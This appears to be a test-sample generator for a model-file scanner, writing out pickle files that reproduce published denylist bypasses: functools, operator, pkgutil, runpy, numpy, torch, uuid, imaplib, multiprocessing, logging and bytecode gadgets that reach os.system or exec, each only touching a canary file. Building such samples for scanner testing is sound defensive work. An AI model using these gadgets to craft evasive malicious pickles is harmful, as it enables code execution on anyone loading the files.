"""Callables that published scanner bypasses used instead of os.system / exec.

Each is the kind of global a denylist forgot: indirection (functools,
operator, pkgutil), stdlib helpers that spawn processes (uuid, imaplib,
multiprocessing), file writers (logging), and library code that execs
(numpy, torch).  The advisory above each proof is the one that reported it.
"""

from __future__ import annotations

import importlib.util
import shutil
import sys
from pathlib import Path

from trainguard.samples.assembler import PickleAsm
from trainguard.samples.base import malicious, py_touch, sh_touch

_PS = "https://github.com/mmaitre314/picklescan/security/advisories"
_MODELSCAN_338 = "https://github.com/protectai/modelscan/issues/338"


def _write(path: Path, a: PickleAsm) -> Path:
    path.write_bytes(a.stop().getvalue())
    return path


def _import_module(a: PickleAsm, name: str) -> PickleAsm:
    """Push a module object the way the advisories did: builtins.__import__."""
    return a.call("builtins", "__import__", name)


@malicious(
    "gadget-pip-main",
    "pip.main called from a pickle",
    "pip.main installs (and so runs) any package; here it only writes its "
    "log file to the canary. Not run by the tests: it starts pip",
    advisory="https://nvd.nist.gov/vuln/detail/CVE-2025-1716",
    fires=False,
)
def pip_main(out: Path, canary: Path) -> Path:
    a = PickleAsm(2).proto(2)
    a.call("pip", "main", ["--version", "--log", str(canary)])
    return _write(out / "pip_main.pkl", a)


@malicious(
    "gadget-functools-partial",
    "functools.partial wrapping os.system",
    "the REDUCE target is functools.partial; os.system is only its argument",
    advisory=f"{_PS}/GHSA-655q-fx9r-782v",
)
def functools_partial(out: Path, canary: Path) -> Path:
    a = PickleAsm(2).proto(2)
    a.global_("functools", "partial").mark().global_("os", "system").str_(sh_touch(canary))
    a.tuple_().reduce()  # partial(os.system, cmd)
    a.empty_tuple().reduce()  # ... called with no arguments
    return _write(out / "functools_partial.pkl", a)


@malicious(
    "gadget-operator-methodcaller",
    "_operator.methodcaller('system', cmd)(os)",
    "methodcaller turns a method name into a call on an object built at load time",
    advisory=f"{_PS}/GHSA-955r-x9j8-7rhh",
)
def operator_methodcaller(out: Path, canary: Path) -> Path:
    a = PickleAsm(2).proto(2)
    a.call("_operator", "methodcaller", "system", sh_touch(canary))
    a.mark()
    _import_module(a, "os")
    a.tuple_().reduce()
    return _write(out / "operator_methodcaller.pkl", a)


@malicious(
    "gadget-operator-attrgetter",
    "_operator.attrgetter('system')(os)(cmd)",
    "attrgetter fetches the dangerous attribute; its name is only a string",
    advisory=f"{_PS}/GHSA-46h3-79wf-xr6c",
)
def operator_attrgetter(out: Path, canary: Path) -> Path:
    a = PickleAsm(2).proto(2)
    a.call("_operator", "attrgetter", "system")
    a.mark()
    _import_module(a, "os")
    a.tuple_().reduce()  # os.system
    a.args(sh_touch(canary)).reduce()
    return _write(out / "operator_attrgetter.pkl", a)


@malicious(
    "gadget-pkgutil-resolve-name",
    "pkgutil.resolve_name('os:system')(cmd)",
    "a string resolves to any callable: one allowed function reaches every denied one",
    advisory=f"{_PS}/GHSA-vvpj-8cmc-gx39",
)
def pkgutil_resolve_name(out: Path, canary: Path) -> Path:
    a = PickleAsm(2).proto(2).call("pkgutil", "resolve_name", "os:system")
    a.args(sh_touch(canary)).reduce()
    return _write(out / "pkgutil_resolve_name.pkl", a)


@malicious(
    "gadget-runpy-run-code",
    "runpy._run_code(source, {})",
    "a private stdlib helper that execs its argument",
    advisory="https://github.com/mmaitre314/picklescan/pull/27",
)
def runpy_run_code(out: Path, canary: Path) -> Path:
    a = PickleAsm(2).proto(2).call("runpy", "_run_code", py_touch(canary), {})
    return _write(out / "runpy_run_code.pkl", a)


@malicious(
    "gadget-numpy-runstring",
    "numpy.testing._private.utils.runstring",
    "numpy's test helper is exec under another name",
    advisory="https://github.com/mmaitre314/picklescan/pull/40",
    requires=("numpy",),
)
def numpy_runstring(out: Path, canary: Path) -> Path:
    a = PickleAsm(2).proto(2)
    a.call("numpy.testing._private.utils", "runstring", py_touch(canary), {})
    return _write(out / "numpy_runstring.pkl", a)


@malicious(
    "gadget-torch-collect-env-run",
    "torch.utils.collect_env.run(cmd)",
    "torch's environment reporter runs a shell command",
    advisory=f"{_PS}/GHSA-f745-w6jp-hpxx",
    requires=("torch",),
)
def torch_collect_env_run(out: Path, canary: Path) -> Path:
    a = PickleAsm(2).proto(2).call("torch.utils.collect_env", "run", sh_touch(canary))
    return _write(out / "torch_collect_env_run.pkl", a)


@malicious(
    "gadget-torch-inductor-write",
    "torch._inductor.codecache.write_atomic",
    "the inductor cache helper writes any file (the advisory used "
    "compile_file, gone from torch 2.13)",
    advisory=f"{_PS}/GHSA-655q-fx9r-782v",
    expect="high",
    requires=("torch",),
)
def torch_inductor_write(out: Path, canary: Path) -> Path:
    a = PickleAsm(2).proto(2)
    a.call("torch._inductor.codecache", "write_atomic", str(canary), "written at load")
    return _write(out / "torch_inductor_write.pkl", a)


@malicious(
    "gadget-multiprocessing-spawnv",
    "multiprocessing.util.spawnv_passfds",
    "a process started through multiprocessing's fork/exec helper",
    advisory=_MODELSCAN_338,
)
def multiprocessing_spawnv(out: Path, canary: Path) -> Path:
    touch = shutil.which("touch") or "/usr/bin/touch"
    a = PickleAsm(3).proto(3)
    a.call("multiprocessing.util", "spawnv_passfds", touch.encode(), ("touch", str(canary)), ())
    return _write(out / "multiprocessing_spawnv.pkl", a)


@malicious(
    "gadget-uuid-command",
    "uuid._get_command_stdout('touch', canary)",
    "uuid's MAC-address probe runs the command it is given",
    advisory=f"{_PS}/GHSA-g38g-8gr9-h9xp",
)
def uuid_command(out: Path, canary: Path) -> Path:
    a = PickleAsm(2).proto(2).call("uuid", "_get_command_stdout", "touch", str(canary))
    return _write(out / "uuid_command.pkl", a)


@malicious(
    "gadget-imaplib-stream",
    "imaplib.IMAP4_stream(cmd)",
    "the IMAP client starts its transport with a shell command; the load "
    "fails afterwards, the command has run",
    advisory=f"{_PS}/GHSA-g38g-8gr9-h9xp",
)
def imaplib_stream(out: Path, canary: Path) -> Path:
    a = PickleAsm(2).proto(2).call("imaplib", "IMAP4_stream", sh_touch(canary))
    return _write(out / "imaplib_stream.pkl", a)


@malicious(
    "gadget-logging-filehandler",
    "logging.FileHandler(path)",
    "constructing a log handler creates (or appends to) any file",
    advisory=f"{_PS}/GHSA-m7j5-r2p5-c39r",
    expect="high",
)
def logging_filehandler(out: Path, canary: Path) -> Path:
    a = PickleAsm(2).proto(2).call("logging", "FileHandler", str(canary))
    return _write(out / "logging_filehandler.pkl", a)


@malicious(
    "gadget-code-object",
    "types.CodeType + types.FunctionType, as cloudpickle does",
    "a function is rebuilt from raw bytecode and called; no exec or eval is "
    "named. Bytecode is built for the running Python version",
    advisory=f"{_PS}/GHSA-9m3x-qqw2-h32h",
)
def code_object(out: Path, canary: Path) -> Path:
    code = compile(py_touch(canary), "<model>", "exec")
    a = PickleAsm(3).proto(3)
    a.global_("types", "FunctionType").mark().global_("types", "CodeType").mark()
    for field in _code_fields():
        a.push(getattr(code, field))
    a.tuple_().reduce()  # CodeType(...)
    a.empty_dict().tuple_().reduce()  # FunctionType(code, {})
    a.empty_tuple().reduce()  # ... called
    return _write(out / "code_object.pkl", a)


def _code_fields() -> tuple[str, ...]:
    """CodeType's constructor arguments, which change with the Python version."""
    head = (
        "co_argcount",
        "co_posonlyargcount",
        "co_kwonlyargcount",
        "co_nlocals",
        "co_stacksize",
        "co_flags",
        "co_code",
        "co_consts",
        "co_names",
        "co_varnames",
        "co_filename",
        "co_name",
    )
    if sys.version_info >= (3, 11):
        return (
            *head,
            "co_qualname",
            "co_firstlineno",
            "co_linetable",
            "co_exceptiontable",
            "co_freevars",
            "co_cellvars",
        )
    return (*head, "co_firstlineno", "co_linetable", "co_freevars", "co_cellvars")


@malicious(
    "gadget-numpy-build-chain",
    "numpy.prod given sys.modules by BUILD, then eval",
    "BUILD's slot state setattr()s every loaded module onto numpy.prod; an "
    "allowed-looking global numpy.prod.builtins.eval then reaches eval",
    advisory="https://github.com/protectai/modelscan/issues/89",
    requires=("numpy",),
)
def numpy_build_chain(out: Path, canary: Path) -> Path:
    a = PickleAsm(4).proto(4)
    a.global_("numpy", "prod")
    a.none().global_(f"{_numpy_core()}._internal", "sys.modules").tuple2().build().pop()
    a.global_("numpy", "prod.builtins.eval").args(py_touch(canary)).reduce()
    return _write(out / "numpy_build_chain.pkl", a)


@malicious(
    "gadget-numpy-attribute-path",
    "numpy._core.numeric.builtins.exec",
    "a dotted protocol-4 name walks from an allowed numpy module into builtins",
    advisory="https://github.com/protectai/modelscan/issues/89",
    requires=("numpy",),
)
def numpy_attribute_path(out: Path, canary: Path) -> Path:
    a = PickleAsm(4).proto(4)
    a.short_binunicode(f"{_numpy_core()}.numeric").short_binunicode("builtins.exec")
    a.stack_global()
    a.args(py_touch(canary)).reduce()
    return _write_framed(out / "numpy_attribute_path.pkl", a)


def _numpy_core() -> str:
    """numpy 2 moved numpy.core to numpy._core; name the one the victim has."""
    try:
        found = importlib.util.find_spec("numpy._core.numeric") is not None
    except ModuleNotFoundError:
        found = False
    return "numpy._core" if found else "numpy.core"


def _write_framed(path: Path, a: PickleAsm) -> Path:
    path.write_bytes(a.stop().getvalue(frame=True))
    return path
